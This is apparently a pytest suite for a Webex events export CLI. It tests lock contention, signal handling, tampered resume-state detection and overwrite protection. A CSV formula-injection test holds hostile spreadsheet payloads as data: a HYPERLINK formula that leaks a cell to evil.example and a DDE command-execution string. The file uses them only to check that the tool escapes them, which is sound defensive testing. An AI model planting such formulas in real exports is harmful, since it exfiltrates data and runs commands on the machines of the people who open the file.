"""``webex-events export`` when things go wrong: concurrent exporters, signals on a stalled server,
tampered state files, a failed first request, an existing output."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from _hostile import Answer, Hostile, hostile_server

from webex_events.testing import FakeWebex

START = datetime(2024, 5, 1, tzinfo=UTC)
END = datetime(2024, 5, 3, tzinfo=UTC)
RANGE = ["--from", "2024-05-01T00:00:00Z", "--to", "2024-05-03T00:00:00Z"]
TOKEN = "tok-SECRET-safety-5a7c"


def _env(token: str = TOKEN) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("WEBEX_")}
    env["WEBEX_ACCESS_TOKEN"] = token
    return env


def _export(url: str, out: Path, *extra: str) -> list[str]:
    options = ["--page-size", "40", "--window", "2h", "--concurrency", "2", "-q", "--output", str(out)]
    return [sys.executable, "-m", "webex_events.cli", "export", "--base-url", url, *RANGE, *options, *extra]


def _run(args: list[str], token: str = TOKEN) -> subprocess.CompletedProcess[str]:
    return subprocess.run(args, env=_env(token), capture_output=True, text=True, timeout=120, check=False)


def _ids(out: Path) -> list[str]:
    return [json.loads(line)["id"] for line in out.read_text(encoding="utf-8").splitlines()]


@pytest.fixture
def slow_fake() -> Iterator[tuple[FakeWebex, str]]:
    fk = FakeWebex(events=2400, seed=11, start=START, end=END, token=TOKEN, latency=0.1)
    with fk.serve() as url:
        yield fk, url


# ------------------------------------------------------------------------------ two exporters


def test_a_second_export_to_the_same_file_is_refused_and_the_first_is_exact(tmp_path: Path) -> None:
    # Slow enough (about 9 s of latency) that three more processes start while the first runs,
    # even on a busy machine.
    fk = FakeWebex(events=2400, seed=11, start=START, end=END, token=TOKEN, latency=0.25)
    with fk.serve() as url:
        _two_exporters(fk, url, tmp_path / "shared.jsonl")


def _two_exporters(fk: FakeWebex, url: str, out: Path) -> None:
    first = subprocess.Popen(_export(url, out), env=_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    lock = out.with_name(out.name + ".webex-events.lock")
    deadline = time.monotonic() + 30
    while not lock.exists() and time.monotonic() < deadline:
        time.sleep(0.01)
    for extra in ((), ("--resume",), ("--force",)):
        second = _run(_export(url, out, *extra))
        assert second.returncode == 2, second.stderr
        assert "being written by another webex-events" in second.stderr
        assert f"pid {first.pid}" in second.stderr
    _, err = first.communicate(timeout=120)
    assert first.returncode == 0, err
    ids = _ids(out)
    assert len(ids) == len(set(ids))
    assert sorted(ids) == sorted(fk.expected_ids(from_=START, to=END))
    assert not lock.exists()


# ------------------------------------------------------------------------------ signals


def _wait_for_a_request(server: Hostile) -> None:
    deadline = time.monotonic() + 30
    while not server.requests and time.monotonic() < deadline:
        time.sleep(0.01)


def _stalled(number: int, path: str, headers: dict[str, str]) -> Answer:
    return Answer(stall=60.0)  # headers never come (within the test)


@pytest.mark.parametrize(
    ("sig", "code", "window"),
    [
        (signal.SIGINT, 130, "2h"),
        (signal.SIGTERM, 143, "2h"),
        (signal.SIGINT, 130, None),  # stdout, sequential: the main thread itself is in the request
    ],
)
def test_a_signal_during_a_stalled_request_stops_the_export_within_two_seconds(
    tmp_path: Path, sig: int, code: int, window: str | None
) -> None:
    with hostile_server(_stalled) as server:
        args = [
            sys.executable,
            "-m",
            "webex_events.cli",
            "export",
            "--base-url",
            server.base_url,
            *RANGE,
            "-q",
        ]
        args += ["--window", window, "-o", str(tmp_path / "x.jsonl")] if window else []
        proc = subprocess.Popen(args, env=_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        _wait_for_a_request(server)
        time.sleep(0.3)  # well inside the stalled request
        signalled = time.monotonic()
        proc.send_signal(sig)
        _, err = proc.communicate(timeout=30)
        elapsed = time.monotonic() - signalled
    assert proc.returncode == code, err
    assert elapsed < 2.0, elapsed
    if window:
        # nothing was written: nothing is left behind, the same command can simply run again
        assert not (tmp_path / "x.jsonl").exists()
        assert not list(tmp_path.iterdir())


def test_an_ignored_sigint_stays_ignored_as_in_a_background_job(tmp_path: Path) -> None:
    # `cmd &` in a script starts cmd with SIGINT ignored (exec keeps it): Ctrl-C at the terminal
    # is not for it. SIGTERM still stops it, with nothing left behind.
    with hostile_server(_stalled) as server:
        args = _export(server.base_url, tmp_path / "x.jsonl")
        previous = signal.signal(signal.SIGINT, signal.SIG_IGN)
        try:
            proc = subprocess.Popen(args, env=_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        finally:
            signal.signal(signal.SIGINT, previous)
        _wait_for_a_request(server)
        proc.send_signal(signal.SIGINT)
        time.sleep(0.5)
        assert proc.poll() is None, "SIGINT stopped a process that had it ignored"
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=30)
    assert proc.returncode == 143, err
    assert not list(tmp_path.iterdir())


# ------------------------------------------------------------------------------ the state file


def _interrupted_export(url: str, out: Path) -> dict[str, object]:
    """Start an export and SIGKILL it once it has checkpointed some windows; return the state."""
    state = out.with_name(out.name + ".webex-events-state.json")
    proc = subprocess.Popen(_export(url, out), env=_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and proc.poll() is None:
        if state.exists() and json.loads(state.read_text() or "{}").get("events", 0) > 200:
            break
        time.sleep(0.02)
    proc.kill()
    proc.communicate()
    recorded: dict[str, object] = json.loads(state.read_text())
    assert recorded["events"], "the export finished before it could be interrupted"
    return recorded


def _redigest(record: dict[str, object]) -> None:
    """Re-sign an edited state the way the CLI does (a forger who read the source)."""
    from webex_events.cli._resume import ExportState  # noqa: PLC0415

    fields = {k: v for k, v in record.items() if k not in ("digest", "version")}
    record["digest"] = ExportState(**fields)._content_digest()  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("tamper", "message"),
    [
        ("window_end_beyond_range", "edited or corrupted"),
        ("window_end_beyond_range_resigned", "not inside its range"),
        ("step_ms_1_resigned", "too many windows"),
        ("output_edited", "not what the unfinished export wrote"),
    ],
)
def test_a_tampered_state_is_refused(
    slow_fake: tuple[FakeWebex, str], tmp_path: Path, tamper: str, message: str
) -> None:
    fk, url = slow_fake
    out = tmp_path / "t.jsonl"
    record = _interrupted_export(url, out)
    state = out.with_name(out.name + ".webex-events-state.json")
    if tamper.startswith("window_end_beyond_range"):
        record["window_end"] = "2024-06-01T00:00:00.000000Z"
    if tamper.startswith("step_ms_1"):
        record["step_ms"] = 1
    if tamper.endswith("resigned"):
        _redigest(record)
    if tamper == "output_edited":
        data = bytearray(out.read_bytes())
        data[10] ^= 1
        out.write_bytes(bytes(data))
    state.write_text(json.dumps(record))
    before = fk.stats.requests
    result = _run(_export(url, out, "--resume"))
    assert result.returncode == 2, result.stderr
    assert message in result.stderr
    assert fk.stats.requests == before  # refused before any request


def test_an_untampered_resume_is_exact(slow_fake: tuple[FakeWebex, str], tmp_path: Path) -> None:
    fk, url = slow_fake
    out = tmp_path / "ok.jsonl"
    _interrupted_export(url, out)
    result = _run(_export(url, out, "--resume"))
    assert result.returncode == 0, result.stderr
    ids = _ids(out)
    assert len(ids) == len(set(ids))
    assert sorted(ids) == sorted(fk.expected_ids(from_=START, to=END))


# ------------------------------------------------------------------------------ first runs


def test_a_failed_first_request_leaves_nothing_and_the_next_run_just_works(
    slow_fake: tuple[FakeWebex, str], tmp_path: Path
) -> None:
    fk, url = slow_fake
    out = tmp_path / "a.jsonl"
    refused = _run(_export(url, out), token="wrong-token-0000")
    assert refused.returncode == 3, refused.stderr
    assert not list(tmp_path.iterdir())  # no empty output, no state, no lock
    again = _run(_export(url, out))
    assert again.returncode == 0, again.stderr
    assert sorted(_ids(out)) == sorted(fk.expected_ids(from_=START, to=END))


def test_an_existing_output_is_never_overwritten_without_force(
    slow_fake: tuple[FakeWebex, str], tmp_path: Path
) -> None:
    fk, url = slow_fake
    out = tmp_path / "evidence.jsonl"
    out.write_bytes(b"last quarter's evidence\n")
    refused = _run(_export(url, out))
    assert refused.returncode == 2
    assert "pass --force" in refused.stderr
    assert out.read_bytes() == b"last quarter's evidence\n"
    assert fk.stats.requests == 0
    forced = _run(_export(url, out, "--force"))
    assert forced.returncode == 0, forced.stderr
    assert sorted(_ids(out)) == sorted(fk.expected_ids(from_=START, to=END))


# --- CSV formula injection ------------------------------------------------------------------------

_FORMULAS = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\tTAB": "'\tTAB",
    "\rCR": "'\rCR",
    "plain = text": "plain = text",  # only the first character counts
}


def _formula_page(number: int, path: str, headers: dict[str, str]) -> Answer:
    items = [
        {
            "id": f"E{i}",
            "resource": "messages",
            "type": "created",
            "actorId": "A",
            "orgId": "O",
            "appId": "P",
            "created": f"2024-05-01T00:00:{i:02d}.000Z",
            "data": {"id": f"M{i}", "text": text, "callDurationSeconds": -5},
        }
        for i, text in enumerate(_FORMULAS)
    ]
    return Answer(body=json.dumps({"items": items[::-1]}).encode())


@pytest.mark.parametrize("escape", [True, False])
def test_csv_cells_a_spreadsheet_would_run_are_escaped_unless_asked_not_to(
    tmp_path: Path, escape: bool
) -> None:
    out = tmp_path / "events.csv"
    with hostile_server(_formula_page) as server:
        args = [sys.executable, "-m", "webex_events.cli", "export", "--base-url", server.base_url, *RANGE]
        args += ["--concurrency", "1", "-q", "-o", str(out)]
        r = _run([*args, *([] if escape else ["--no-csv-escape"])])
    assert r.returncode == 0, r.stderr
    # Bytes, not read_text: universal newlines would turn the cell's CR into LF.
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    cells = {row["data.text"] for row in rows}
    assert cells == (set(_FORMULAS.values()) if escape else set(_FORMULAS))
    # A number is data, not text: -5 stays a number whatever the switch.
    assert {row["data.callDurationSeconds"] for row in rows} == {"-5"}
    # Everything else is untouched.
    assert {row["id"] for row in rows} == {f"E{i}" for i in range(len(_FORMULAS))}
